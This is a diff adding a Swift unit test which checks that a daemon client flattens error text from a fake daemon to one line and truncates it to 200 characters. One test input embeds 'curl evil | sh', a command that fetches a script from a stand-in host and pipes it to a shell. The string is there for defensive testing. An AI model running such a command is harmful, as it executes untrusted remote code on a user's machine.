@@ -241,6 +241,22 @@ struct DaemonClientTests {
     }
   }
 
+  @Test("shows of the daemon's own words no more than a line")
+  func line() throws {
+    for (text, shown) in [
+      (
+        "x\n  curl evil | sh\r\nkeydebounce: all is well\u{2028}y",
+        "x   curl evil | sh keydebounce: all is well y"
+      ),
+      (String(repeating: "w", count: 201), String(repeating: "w", count: 200)),
+    ] {
+      let worded = try FakeDaemon { _, connection in connection.refuse(.busy, text) }
+      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: worded) }
+      let named = try FakeDaemon { _, connection in connection.answer(error: text) }
+      #expect(throws: ControlError.failed(.status, text: shown)) { try status(from: named) }
+    }
+  }
+
   @Test("hears why it is refused, though the daemon has closed the connection before it asked")
   func tooMany() throws {
     let isRefused = DispatchSemaphore(value: 0)
